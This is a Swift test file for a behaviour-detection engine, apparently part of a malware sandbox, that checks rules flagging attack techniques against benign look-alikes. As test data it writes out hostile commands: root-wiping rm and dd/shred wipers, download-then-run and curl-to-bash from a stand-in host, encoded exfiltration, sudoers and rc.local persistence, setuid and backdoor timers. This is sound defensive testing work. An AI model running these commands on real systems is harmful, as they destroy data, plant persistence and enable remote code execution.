import Foundation
import PetriModel
import Testing
@testable import PetriAnalysis

/// The built-in rules written for the technique (issue 15): each positive is how the technique is done
/// (argv as the kernel sees it, attempts included), each near miss the benign look-alike beside it.
@Suite struct TechniqueRuleTests {
    static func ids(_ t: Trace) -> Set<String> { Set(BehaviourEngine(ruleSet: BuiltIn.rules).evaluate(t.report).map(\.id)) }

    /// One exec of `argv` by the sample's shell (argv[0] resolved under /usr/bin), optionally failing.
    static func run(_ argvs: [[String]], failing: Bool = false) -> Set<String> {
        var t = Trace(sampleName: "case.sh")
        var pid: Int32 = 200
        for argv in argvs {
            pid += 1
            t.child(pid, image: "sh")
            let path = argv[0].hasPrefix("/") ? argv[0] : "/usr/bin/" + argv[0]
            t.sys("execve", ["path": .string(path), "argv": .list(argv)], pid: pid, image: "sh")
            if failing { t.sys("exit_group", ["code": .int(1)], pid: pid, image: "sh") }
        }
        return ids(t)
    }

    @Test func serviceStopsAndShutdownsCountAlsoUnderARefusedSudo() {
        #expect(Self.run([["sudo", "systemctl", "stop", "cron"]], failing: true).contains("stops-services"))
        #expect(Self.run([["pkill", "-SIGTERM", "^cron$"]]).contains("stops-services"))
        #expect(!Self.run([["systemctl", "status", "cron"]]).contains("stops-services"))
        #expect(!Self.run([["pkill", "firefox"]]).contains("stops-services"))
        #expect(Self.run([["shutdown", "-r", "now"]], failing: true).contains("shuts-down-system"))
        #expect(Self.run([["sudo", "halt", "--reboot"]], failing: true).contains("shuts-down-system"))
        #expect(!Self.run([["uptime"]]).contains("shuts-down-system"))
    }

    @Test func accountsCreatedTakenOverOrLockedOut() {
        #expect(Self.run([["useradd", "-M", "-r", "-s", "/bin/bash", "svc"]], failing: true).contains("creates-local-account"))
        #expect(Self.run([["su", "-c", "whoami", "art"]]).contains("repurposes-local-account"))
        #expect(Self.run([["chsh", "--shell", "/bin/bash", "nobody"]]).contains("repurposes-local-account"))
        #expect(!Self.run([["su", "-c", "id", "root"]]).contains("repurposes-local-account"))
        #expect(Self.run([["passwd", "alice"]]).contains("removes-account-access"))
        #expect(!Self.run([["passwd", "-S"]]).contains("removes-account-access"))
        #expect(!Self.run([["id", "-un"]]).contains("creates-local-account"))
    }

    @Test func persistencePathsGivenToAWriterToolUnderSudo() {
        #expect(Self.run([["sudo", "tee", "-a", "/etc/rc.local"]], failing: true).contains("persistence-rc-script"))
        #expect(Self.run([["sudo", "sed", "-i", "s/x/y/", "/etc/sudoers"]], failing: true).contains("modifies-sudoers"))
        #expect(!Self.run([["cat", "/etc/rc.local"]]).contains("persistence-rc-script"))
        #expect(Self.run([["systemctl", "enable", "backdoor.timer"]]).isSuperset(of: ["persistence-systemd-timer", "persistence-systemd-unit"]))
        #expect(Self.run([["chmod", "u+xs", "/tmp/b"]]).contains("sets-setuid-bit"))
        #expect(!Self.run([["chmod", "u+x", "/tmp/b"]]).contains("sets-setuid-bit"))
    }

    @Test func trapsThatRunProgramsButNotCleanupTraps() {
        #expect(Self.run([["bash", "-c", "trap \"nohup sh /tmp/x.sh\" EXIT"]]).contains("shell-trap-handler"))
        #expect(Self.run([["bash", "-c", "trap 'echo \"$BASH_COMMAND\" >> /tmp/log' DEBUG; id"]]).contains("shell-trap-handler"))
        #expect(!Self.run([["bash", "-c", "trap 'rm -f \"$tmp\"' EXIT; tmp=$(mktemp)"]]).contains("shell-trap-handler"))
    }

    @Test func downloadThenChmodOrRunButNotAPlainFetch() {
        #expect(Self.run([["curl", "-sO", "https://x.example/a.sh"], ["chmod", "+x", "a.sh"]]).contains("download-then-run"))
        #expect(Self.run([["wget", "http://x.example/a.sh"], ["bash", "a.sh"]]).contains("download-then-run"))
        #expect(!Self.run([["curl", "-s", "https://x.example/index.html"]]).contains("download-then-run"))
        #expect(Self.run([["curl", "-sS", "https://x.example/i.sh"], ["bash"]]).contains("shell-reads-commands-from-pipe"))
        #expect(Self.run([["curl", "-XPOST", "MTExLTExLTExMTE=.x.example"]], failing: true).contains("encodes-before-sending"))
        #expect(!Self.run([["curl", "-XPOST", "https://api.x.example/v1/items"]]).contains("encodes-before-sending"))
    }

    @Test func destructionIsWholeTreesOrWipersNotBuildCleanups() {
        #expect(Self.run([["rm", "-rf", "--no-preserve-root", "/"]]).contains("destroys-data"))
        #expect(Self.run([["dd", "of=/var/log/syslog", "if=/dev/zero", "count=1"]]).contains("destroys-data"))
        #expect(Self.run([["shred", "-u", "/home/user/Documents/a.txt"]]).contains("destroys-data"))
        #expect(!Self.run([["rm", "-rf", "/tmp/build"]]).contains("destroys-data"))
        #expect(!Self.run([["dd", "if=/dev/zero", "of=/tmp/swapfile", "bs=1M", "count=8"]]).contains("destroys-data"))
    }

    @Test func archivingIsNamedQuietlyAndExtractingIsNot() throws {
        var t = Trace(sampleName: "backup.sh")
        t.child(201, image: "sh")
        t.sys("execve", ["path": .string("/usr/bin/tar"), "argv": .list(["tar", "czf", "/tmp/b.tgz", "/home/user/Documents"])], pid: 201, image: "sh")
        let m = try #require(BehaviourEngine(ruleSet: BuiltIn.rules).evaluate(t.report).first { $0.id == "archives-collected-data" })
        #expect(m.severity == 1 && m.attack == ["T1560.001"])
        #expect(!Self.run([["tar", "xzf", "/tmp/b.tgz"]]).contains("archives-collected-data"))
    }

    @Test func aHitPidsLimitIsEndpointExhaustionAndATimeoutIsNot() {
        var t = Trace(sampleName: "forker")
        t.report.run.limitsHit = [LimitHit(limit: "timeout", detail: "30 s")]
        #expect(!Self.ids(t).contains("endpoint-resource-exhaustion"))
        t.report.run.limitsHit.append(LimitHit(limit: "pids", detail: "256 processes (cgroup pids.max)"))
        #expect(Self.ids(t).contains("endpoint-resource-exhaustion"))
    }

    @Test func revokedAttackIdsAreReportedAsTheCurrentOnesWithThePreviousBeside() throws {
        let r = RuleLoader.load(sources: [("t.yaml", """
            rules:
              - id: kills-av
                title: t
                description: d
                severity: 3
                attack: [T1562.001, T1070.003, T1070.002]
                condition: {match: {syscall: execve}}
              - id: plain
                title: t
                description: d
                severity: 1
                attack: [T1059.004]
                condition: {match: {syscall: execve}}
            """)])
        #expect(r.diagnostics.isEmpty, "\(r.diagnostics)")
        var t = Trace()
        t.exec("/usr/bin/pkill", argv: ["pkill", "clamd"])
        let ms = BehaviourEngine(ruleSet: r.ruleSet).evaluate(t.report)
        let moved = try #require(ms.first { $0.id == "kills-av" })
        #expect(moved.attack == ["T1685", "T1070.003", "T1685.006"])
        #expect(moved.attackPrevious == ["T1562.001", "T1070.002"])
        let plain = try #require(ms.first { $0.id == "plain" })
        #expect(plain.attackPrevious == nil)
        let json = String(decoding: try JSONEncoder().encode(plain), as: UTF8.self)
        #expect(!json.contains("attack_previous"))
        #expect(String(decoding: try JSONEncoder().encode(moved), as: UTF8.self).contains("\"attack_previous\":[\"T1562.001\",\"T1070.002\"]"))
        // A rule citing the current id gets the previous one too, and the layer uses the current ids.
        #expect(AttackIDs.normalize(["T1690"]).previous == ["T1562.003"])
        #expect(AttackIDs.normalize(["T1685"]).previous == ["T1562.001"])
        var report = t.report
        report.behaviours = ms
        let layer = AttackLayer.layer(for: report)
        #expect((layer["versions"] as? [String: String])?["attack"] == AttackIDs.release)
        let techniques = try #require(layer["techniques"] as? [[String: Any]])
        #expect(Set(techniques.compactMap { $0["techniqueID"] as? String }) == ["T1685", "T1070.003", "T1685.006", "T1059.004"])
    }
}
